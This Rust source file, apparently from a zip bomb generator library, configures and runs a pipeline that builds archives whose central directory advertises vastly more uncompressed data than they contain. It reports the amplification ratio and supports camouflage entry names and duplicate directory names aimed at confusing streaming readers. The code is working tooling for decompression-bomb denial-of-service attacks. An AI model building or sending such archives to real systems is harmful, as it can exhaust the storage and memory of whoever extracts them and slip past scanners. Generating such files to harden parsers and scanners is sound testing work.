//! Generator configuration and the `create` pipeline.
//!
//! [`Generator::create`] runs the assembler and then the rewriter over the
//! assembled buffer. All limits are checked in [`GeneratorConfig::new`] or at
//! the top of `create`, before any byte is written.

use crate::assemble::{assemble, ExtraEntry};
use crate::error::{Error, Result};
use crate::format::MAX_NAME_LEN;
use crate::namer::EntryNamer;
use crate::rewrite::{EntryCountMode, RewriteStats, Rewriter};
use crate::{MAX_ENTRIES, MAX_FILE_SIZE};
use tracing::{debug, warn};

/// Validated generator settings
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeneratorConfig {
    files_amount: usize,
    file_size: u64,
    fake_entry_name: Option<String>,
    entry_count: EntryCountMode,
}

impl GeneratorConfig {
    /// Creates a config advertising `files_amount` entries of `file_size` bytes each.
    ///
    /// `files_amount` must be in `1..=MAX_ENTRIES` and `file_size` at most
    /// [`MAX_FILE_SIZE`]. The template payload is compressed in full, so
    /// `file_size` sets the cost of a run; `files_amount` only adds small
    /// fixed-size directory records.
    pub fn new(files_amount: usize, file_size: u64) -> Result<Self> {
        if files_amount == 0 {
            return Err(Error::configuration("files amount must be at least 1"));
        }
        if files_amount > MAX_ENTRIES {
            return Err(Error::configuration(format!(
                "files amount {} exceeds the format limit of {}",
                files_amount, MAX_ENTRIES
            )));
        }
        if file_size > MAX_FILE_SIZE {
            return Err(Error::configuration(format!(
                "file size {} exceeds the limit of {}",
                file_size, MAX_FILE_SIZE
            )));
        }

        Ok(Self {
            files_amount,
            file_size,
            fake_entry_name: None,
            entry_count: EntryCountMode::default(),
        })
    }

    /// Sets the name streaming readers see for every entry after the first
    pub fn fake_entry_name(mut self, name: impl Into<String>) -> Result<Self> {
        let name = name.into();
        if name.len() > MAX_NAME_LEN {
            return Err(Error::configuration(format!(
                "fake entry name is {} bytes, the limit is {}",
                name.len(),
                MAX_NAME_LEN
            )));
        }
        self.fake_entry_name = Some(name);
        Ok(self)
    }

    /// Sets how the trailer reports the entry count
    pub fn entry_count(mut self, mode: EntryCountMode) -> Self {
        self.entry_count = mode;
        self
    }

    /// Number of entries the directory advertises for the template
    pub fn files_amount(&self) -> usize {
        self.files_amount
    }

    /// Uncompressed size of the template payload
    pub fn file_size(&self) -> u64 {
        self.file_size
    }

    /// Camouflage name, if set
    pub fn fake_name(&self) -> Option<&str> {
        self.fake_entry_name.as_deref()
    }

    /// Trailer count policy
    pub fn entry_count_mode(&self) -> EntryCountMode {
        self.entry_count
    }
}

/// Summary of one generated archive
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BombReport {
    /// Length of the produced archive
    pub archive_len: usize,
    /// Central directory records in the archive
    pub directory_entries: usize,
    /// Entry count written to the trailer
    pub trailer_entries: u16,
    /// Local file headers in the archive
    pub local_headers: usize,
    /// Uncompressed bytes the directory advertises
    pub declared_uncompressed: u64,
    /// Bytes removed from local headers by the camouflage name (may be negative)
    pub reduced_header_bytes: i64,
    /// Bytes added to the central directory
    pub added_directory_bytes: u64,
    /// Directory names that appeared more than once
    pub duplicate_names: usize,
}

impl BombReport {
    fn new(archive_len: usize, declared_uncompressed: u64, stats: RewriteStats) -> Self {
        Self {
            archive_len,
            directory_entries: stats.central_records + stats.synthesized_records,
            trailer_entries: stats.declared_entries,
            local_headers: stats.local_headers,
            declared_uncompressed,
            reduced_header_bytes: stats.reduced_header_bytes,
            added_directory_bytes: stats.added_directory_bytes,
            duplicate_names: stats.duplicate_names,
        }
    }

    /// Advertised uncompressed bytes per archive byte
    pub fn amplification(&self) -> f64 {
        if self.archive_len == 0 {
            return 0.0;
        }
        self.declared_uncompressed as f64 / self.archive_len as f64
    }
}

/// Builds archives whose directory advertises far more than they contain
#[derive(Debug, Clone)]
pub struct Generator<N> {
    namer: N,
    config: GeneratorConfig,
}

impl<N: EntryNamer> Generator<N> {
    /// Creates a generator naming entries with `namer`
    pub fn new(namer: N, config: GeneratorConfig) -> Self {
        Self { namer, config }
    }

    /// The generator settings
    pub fn config(&self) -> &GeneratorConfig {
        &self.config
    }

    /// Name of the template entry, `namer.name(0)`
    pub fn template_name(&self) -> String {
        self.namer.name(0)
    }

    /// Builds the archive from the template and `extras`
    pub fn create(&self, extras: &[ExtraEntry]) -> Result<Vec<u8>> {
        self.create_with_report(extras).map(|(archive, _)| archive)
    }

    /// Builds the archive and reports what it advertises
    pub fn create_with_report(&self, extras: &[ExtraEntry]) -> Result<(Vec<u8>, BombReport)> {
        let requested = self.config.files_amount + extras.len();
        if requested > MAX_ENTRIES {
            return Err(Error::TooManyEntries {
                requested,
                max: MAX_ENTRIES,
            });
        }

        let template_name = self.template_name();
        if extras.iter().any(|entry| entry.name == template_name) {
            return Err(Error::name_collision(template_name));
        }

        debug!(
            "Generating {} x {} bytes as '{}' with {} extra entries",
            self.config.files_amount,
            self.config.file_size,
            template_name,
            extras.len()
        );

        let assembled = assemble(&template_name, self.config.file_size, extras)?;
        let (archive, stats) = Rewriter::new(&self.namer, self.config.files_amount, &template_name)
            .camouflage(self.config.fake_name())
            .entry_count(self.config.entry_count)
            .rewrite(&assembled)?;

        if stats.duplicate_names > 0 {
            warn!(
                "{} directory names are repeated; some readers will skip those entries",
                stats.duplicate_names
            );
        }

        let declared_uncompressed = self.config.files_amount as u64 * self.config.file_size
            + extras.iter().map(|e| e.data.len() as u64).sum::<u64>();
        let report = BombReport::new(archive.len(), declared_uncompressed, stats);

        debug!(
            "Archive is {} bytes and advertises {} bytes in {} entries",
            report.archive_len, report.declared_uncompressed, report.directory_entries
        );
        Ok((archive, report))
    }
}
